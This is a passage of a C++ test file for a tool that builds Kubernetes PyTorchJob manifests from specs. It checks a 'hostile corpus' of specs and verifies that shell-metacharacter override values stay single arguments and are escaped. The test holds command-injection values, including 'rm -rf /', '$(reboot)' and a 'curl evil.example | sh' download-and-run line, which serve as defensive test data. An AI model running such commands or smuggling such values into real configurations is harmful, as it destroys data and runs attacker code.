  const RunResult r = RunLimited(args, box.root(), std::max<rlim_t>(60, per_spec * runs.size()));
  std::printf("[ all-in-one ] %zu specs in one nemoc run, %zu bytes on stderr\n", runs.size(),
              r.err.size());

  std::vector<std::string> problems;
  for (const auto& [c, spec] : runs) {
    std::vector<std::string> missing;
    ExpectationViolations(r.err, spec, c, &missing);
    for (const auto& m : missing) problems.push_back(c.name + ": " + m);
  }
  // "N errors" counts at least one error per spec.
  size_t count_at = r.err.rfind(" error");
  size_t line_start = count_at == std::string::npos ? 0 : r.err.rfind('\n', count_at);
  line_start = line_start == std::string::npos ? 0 : line_start + 1;
  const long errors = count_at == std::string::npos
                          ? 0
                          : std::strtol(r.err.c_str() + line_start, nullptr, 10);
  if (errors < static_cast<long>(runs.size())) {
    problems.push_back("the summary counts " + std::to_string(errors) + " errors for " +
                       std::to_string(runs.size()) + " specs");
  }
  CommonViolations(r, before, Capture(box), &problems);
  Report(name, problems, r.err);
}

TEST(HostileCorpus, AllSpecsInOneRun) { RunAllInOne(false, "AllSpecsInOneRun"); }

TEST(HostileCorpus, AllSpecsInOneRunIncludingKnownBugs) {
  RunAllInOne(true, "AllSpecsInOneRunIncludingKnownBugs");
}

// ---------------------------------------------------------------------------
// Shell metacharacters in the VALUE of a Hydra override are legal (Hydra
// parses them, no shell ever does), so they are not in the refused corpus;
// this checks they stay one argv entry each and that Kubernetes' $(VAR)
// expansion is escaped.

TEST(HostileOverrides, ShellMetacharactersInValuesStayOneArgvEntry) {
  ScratchDir scratch;
  const std::string spec = scratch.Write(
      "overrides.yaml", TrainLine("      overrides:\n"
                                  "        - 'trainer.x=1; rm -rf /'\n"
                                  "        - 'trainer.y=$(reboot)'\n"
                                  "        - 'trainer.z=`reboot` && curl evil.example | sh'\n"));
  RunResult r = RunLimited({"build", "--quiet", "--out", scratch.path() + "/out", spec}, scratch.path());
  ASSERT_EQ(0, r.exit_code) << r.err;
  // The job's file name carries a content hash (k8s.contentName).
  std::string job;
  for (const auto& [path, text] : ReadAll(scratch.path() + "/out/hostile/onprem/30-train")) {
    if (path.rfind("pytorchjob-hostile-train-", 0) == 0) job = text;
  }
  ASSERT_NE("", job);
  EXPECT_NE(std::string::npos, job.find("\n            - ++trainer.x=1; rm -rf /\n")) << job;
  EXPECT_NE(std::string::npos, job.find("\n            - ++trainer.y=$$(reboot)\n")) << job;
  EXPECT_NE(std::string::npos, job.find("++trainer.z=`reboot` && curl evil.example | sh")) << job;
  for (size_t at = job.find("$(reboot)"); at != std::string::npos;
       at = job.find("$(reboot)", at + 1)) {
    EXPECT_TRUE(at > 0 && job[at - 1] == '$')
        << "unescaped $(reboot) would be expanded by the kubelet";
  }
  EXPECT_EQ(std::string::npos, job.find("bash")) << "vanilla-k8s has no shell prologue";
}

}  // namespace
}  // namespace nemoc::testing
